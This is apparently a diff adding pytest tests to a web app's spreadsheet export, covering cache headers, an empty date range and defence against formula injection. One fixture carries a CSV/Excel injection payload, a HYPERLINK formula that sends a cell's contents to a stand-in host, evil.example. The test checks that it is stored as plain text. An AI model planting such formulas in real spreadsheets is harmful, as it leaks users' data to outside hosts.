@@ -92,6 +92,23 @@ def test_batch_download_for_approvers(auth, approvals, approver):
     response = auth._client.get("/exports/batch?date_from=2027-01-01&date_to=2027-01-31&lang=en")
     assert response.status_code == 200 and response.mimetype.endswith("spreadsheetml.sheet")
     assert openpyxl.load_workbook(io.BytesIO(response.data)).active.max_row == 4
+    assert response.headers["Cache-Control"] == "private, no-store"
+
+
+def test_text_that_a_spreadsheet_would_run_stays_text(app, db, make_plan, approve):
+    typed = '=HYPERLINK("http://evil.example/?x="&A2,"open")'
+    version = make_plan(lines=[Line(kind="cash", amount="4000.00", description=typed),
+                               Line(amount="100.00", description="=1+1", currency="NGN", amount_local="25000",
+                                    exchange_rate="0.004")])
+    approve(version, now=datetime(2027, 1, 3, 9, 0, tzinfo=timezone.utc))
+    out = io.BytesIO()
+    with app.app_context():
+        write_batch(db, date(2027, 1, 1), date(2027, 1, 31), out, lang="en")
+    sheet = openpyxl.load_workbook(io.BytesIO(out.getvalue())).active
+    cells = [row[7] for row in sheet.iter_rows(min_row=2)]
+    assert [c.value for c in cells] == [typed, "=1+1"]
+    assert {c.data_type for c in cells} == {"s"}
+    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)
 
 
 @pytest.mark.parametrize("query, message", [
@@ -119,3 +136,10 @@ def test_only_approvers_export_batches(auth, make_user, role):
     auth.login(make_user(role))
     assert auth._client.get("/exports/").status_code == 403
     assert auth._client.get("/exports/batch?date_from=2027-01-01&date_to=2027-01-31").status_code == 403
+
+
+def test_the_last_days_a_date_can_hold_give_an_empty_workbook_never_500(auth, approvals, approver):
+    auth.login(approver)
+    response = auth._client.get("/exports/batch?date_from=9999-12-30&date_to=9999-12-31&lang=en")
+    assert response.status_code == 200
+    assert openpyxl.load_workbook(io.BytesIO(response.data)).active.max_row == 1
